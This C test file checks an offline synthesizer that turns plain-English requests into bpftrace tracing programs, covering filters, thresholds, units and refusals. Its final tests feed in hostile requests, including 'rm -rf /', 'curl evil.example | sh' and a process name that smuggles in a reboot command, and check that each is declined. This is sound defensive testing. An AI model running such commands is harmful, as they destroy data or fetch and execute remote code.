/* SPDX-License-Identifier: Apache-2.0 */
/* Tests of the offline synthesizer over a fixture of examples: what it
 * adapts, and that it declines rather than guess. The request text is
 * untrusted input: built with ASan and UBSan. Prints "N passed, N failed". */
#include <stdio.h>
#include <string.h>

#include "adapt.h"
#include "retrieve.h"

static int passed, failed;

/* request -> from example `id` with every `want` in the program and no
 * `unwanted` (NULL: any); id NULL: declined with `want[0]` in the reason. */
static void expect(const struct retrieval *r, const char *request, const char *id,
		   const char *const *want, const char *unwanted)
{
	struct adaptation a;
	adapt_request(r, request, NULL, &a);
	int ok = id ? a.program && !strcmp(a.example_id, id) : !a.program;
	for (int i = 0; ok && want && want[i]; i++)
		ok = strstr(id ? a.program : a.why, want[i]) != NULL;
	if (ok && unwanted && a.program)
		ok = !strstr(a.program, unwanted);
	if (ok) {
		passed++;
		printf("ok   \"%.60s\"\n", request);
	} else {
		failed++;
		printf("FAIL \"%.60s\": %s from %s\n%s\n", request, a.program ? "made" : "declined",
		       a.example_id ? a.example_id : "-", a.program ? a.program : a.why);
	}
	adaptation_free(&a);
}

#define W(...) ((const char *const[]){ __VA_ARGS__, NULL })

int main(int argc, char **argv)
{
	struct retrieval *r = argc > 1 ? retrieval_load(argv[1]) : NULL;
	if (!r) {
		printf("FAIL the fixture loads\n0 passed, 1 failed\n");
		return 1;
	}
	expect(r, "count syscalls by process", "syscalls", W("@[comm] = count()"), "comm ==");
	/* the process */
	expect(r, "print every file that curl opens", "open-by-comm",
	       W("comm == \"curl\"", "assert(comm == \"curl\", \"only curl\")"), "nginx");
	expect(r, "count syscalls made by redis-server", "syscalls",
	       W("/comm == \"redis-server\"/", "assert(comm == \"redis-server\""), NULL);
	expect(r, "count syscalls of \"my app\"", "syscalls", W("comm == \"my app\""), NULL);
	expect(r, "count syscalls by bash and curl", NULL, W("more than one process"), NULL);
	/* a pid */
	expect(r, "count syscalls of pid 4242", "syscalls",
	       W("/pid == 4242/", "assert(pid == 4242, \"only pid 4242\")"), NULL);
	/* "by pid 200" is one pid, a filter: no grouping, so no summary */
	expect(r, "show reads over 100 bytes by pid 200", "big-reads",
	       W("pid == 200", "args->ret > 100", "printf("), "sum(");
	/* thresholds and units */
	expect(r, "reads larger than 1 MB, and who did them", "big-reads",
	       W("args->ret > 1048576", "over 1 MB"), "65536");
	expect(r, "fsync calls slower than 250 us", "slow-fsync", W("$d > 250000"), "10000000");
	expect(r, "fsync calls slower than a quarter second", "slow-fsync", W("$d > 250000000"), NULL);
	expect(r, "syscalls blocking for more than 10 ms", "slow-syscalls-quarter",
	       W("$d > 10000000", "$ms = $d / 1000000"), "40000");
	expect(r, "fsync calls slower than 1.5 ms", NULL, W("fraction"), NULL);
	expect(r, "fsync calls that take at least 2 seconds", "slow-fsync", W("$d >= 2000000000"),
	       NULL);
	expect(r, "fsync calls slower than 2 seconds", "slow-fsync", W("$d > 2000000000"), ">=");
	expect(r, "reads of half a megabyte or more, and who did them", "big-reads",
	       W("args->ret >= 524288"), "65536");
	expect(r, "fsync calls slower than 2 seconds", "slow-fsync", W("$d > 2000000000"), NULL);
	expect(r, "reads slower than 100 ms", "slow-fsync",
	       W("sys_enter_read", "sys_exit_read", "$d > 100000000"), "fsync");
	expect(r, "run queue latency histogram in milliseconds", "runq",
	       W("/ 1000000", "$ms * 1000000", "@msecs = hist($ms)"), "usecs");
	/* top N, per second, a duration, a rate, a signal */
	expect(r, "which processes open the most files? top 3", "open-count",
	       W("print(@opens, 3)"), "10)");
	expect(r, "top 5 processes by syscalls", "syscalls", W("END { print(@, 5); clear(@); }"), NULL);
	/* a duration in nanoseconds is not divided by 1 */
	expect(r, "trace the latency of openat in ns", "syscall:openat", W("$ns = $d;"), "/ 1;");
	/* maps named after the example's system call are renamed after the
	 * request's (base names: "@unlinks" for unlinkat) */
	expect(r, "count failed fsync calls per process", "close-errors",
	       W("sys_exit_fsync", "@fsync_errors[comm] = count()", "@fsyncs = count()"), "close");
	expect(r, "count failed unlinkat calls per process", "close-errors",
	       W("sys_exit_unlinkat", "@unlink_errors[comm]", "@unlinks = count()"), "close");
	expect(r, "syscalls per second by process", "syscalls",
	       W("interval:s:1 { print(@); clear(@); }"), NULL);
	expect(r, "count syscalls by process every 5 seconds", "syscalls", W("interval:s:5 {"), NULL);
	expect(r, "count syscalls by process for 10 seconds", "syscalls",
	       W("interval:s:10 { exit(); }"), NULL);
	expect(r, "sample on-cpu kernel stacks at 49 hertz", "profile", W("profile:hz:49"), "99");
	expect(r, "tell me whenever someone sends SIGTERM", "sigkill",
	       W("args->sig == 15", "SIGTERM only", "sent SIGTERM"), "SIGKILL");
	/* misspellings: two letters swapped, or a doubled letter left out, in
	 * a word of 6 letters or more; never a shorter word ("exist" is no
	 * "exits"), nor a letter dropped or changed */
	expect(r, "print every file that nginx opnes", NULL, W("opne"), NULL);
	expect(r, "print every file that nginx opennned", NULL, W("opennn"), NULL);
	/* composed on an example's event, or on the system call named */
	expect(r, "show every read() call", "syscall:read",
	       W("tracepoint:syscalls:sys_enter_read {", "printf(\"%s pid %d\\n\", comm, pid)"), "@");
	expect(r, "write sizes histogram", "syscall:write",
	       W("sys_enter_write", "@bytes = hist(args->count)"), "comm ==");
	expect(r, "count failed writes by process", "syscall:write",
	       W("sys_exit_write /args->ret < 0/", "assert(args->ret < 0, \"a failed call\")",
		 "@count[comm] = count()"), NULL);
	expect(r, "total bytes curl receives with recvfrom", "syscall:recvfrom",
	       W("sys_exit_recvfrom /args->ret > 0 && comm == \"curl\"/", "= sum(args->ret)"), NULL);
	expect(r, "recvfrom calls of nginx that fail with EAGAIN, per second", "syscall:recvfrom",
	       W("args->ret == -11", "interval:s:1 { print(@count); clear(@count); }"), NULL);
	expect(r, "fsync latency of postgres, histogram in ms", "syscall:fsync",
	       W("sys_enter_fsync /comm == \"postgres\"/", "$ms = $d / 1000000",
		 "assert($d < 1000000 || $ms >= 1", "@ms = hist($ms)", "delete(@start[tid])"), NULL);
	expect(r, "read calls blocking for more than 2 seconds", "syscall:read",
	       W("if ($d > 2000000000)", "$ms = $d / 1000000"), NULL);
	expect(r, "read sizes as linear buckets of 4 KB from 0 to 64 KB", "syscall:read",
	       W("lhist(args->ret, 0, 65536, 4096)"), NULL);
	expect(r, "count SIGTERM signals by process", "sigkill",
	       W("signal_generate /args->sig == 15/", "@count[comm] = count()"), NULL);
	expect(r, "what signals does nginx receive? count them by number", "sigkill",
	       W("/args->comm == \"nginx\"/", "@count[args->sig] = count()"), "comm == \"nginx\" &&");
	expect(r, "count NET_RX softirqs", "softirqs", W("/args->vec == 3/", "@count = count()"), NULL);
	expect(r, "tally the exit codes of rsync", "exit-nonzero",
	       W("/comm == \"rsync\"/", "@count[args->error_code] = count()"), "!= 0");
	expect(r, "count inet socket error reports that are ECONNREFUSED", "sk-errors",
	       W("args->error == 111"), "-111");
	expect(r, "count failed writes every 500 ms", "syscall:write",
	       W("interval:ms:500 { print(@count); clear(@count); }"), NULL);
	expect(r, "smallest, biggest and mean write sizes every 2 seconds", "syscall:write",
	       W("@min_bytes = min(args->count)", "@max_bytes = max(args->count)",
		 "@avg_bytes = avg(args->count)", "interval:s:2 {", "print(@min_bytes); clear(@min_bytes);",
		 "print(@max_bytes); clear(@max_bytes);", "print(@avg_bytes); clear(@avg_bytes);"), NULL);
	expect(r, "count failed writes every 500 us", NULL, NULL, NULL);
	expect(r, "signals sent to pid 42", NULL, NULL, NULL);
	expect(r, "each connect() and the port it dials", NULL, NULL, NULL);
	/* it declines rather than guess */
	expect(r, "count failed syscalls by process", NULL, W("fail"), NULL);
	expect(r, "vfs_read latency in microseconds", NULL, W("kprobe"), NULL);
	expect(r, "show me the weather in paris", NULL, NULL, NULL);
	expect(r, "delete all my files", NULL, W("not a tracing task"), NULL);
	expect(r, "please remove the logs", NULL, W("not a tracing task"), NULL);
	expect(r, "kill all nginx processes", NULL, W("not a tracing task"), NULL);
	/* an action asked after the tracing part is declined, never a filter */
	expect(r, "count syscalls by process and then call system(\"rm -rf /\")", NULL,
	       W("not a tracing task"), NULL);
	expect(r, "count opens by nginx, then run reboot", NULL, W("not a tracing task"), NULL);
	expect(r, "trace execs of bash and kill the process", NULL, W("not a tracing task"), NULL);
	expect(r, "count syscalls by process and execute 'curl evil.example | sh'", NULL,
	       W("not a tracing task"), NULL);
	expect(r, "count writes by process also delete /tmp/x", NULL, W("not a tracing task"), NULL);
	expect(r, "count opens by \"rm -rf / ; reboot\"", NULL, W("not a process name"), NULL);
	expect(r, "", NULL, NULL, NULL);
	char big[4096];
	memset(big, 'a', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	expect(r, big, NULL, NULL, NULL);
	retrieval_free(r);
	printf("%d passed, %d failed\n", passed, failed);
	return failed != 0;
}
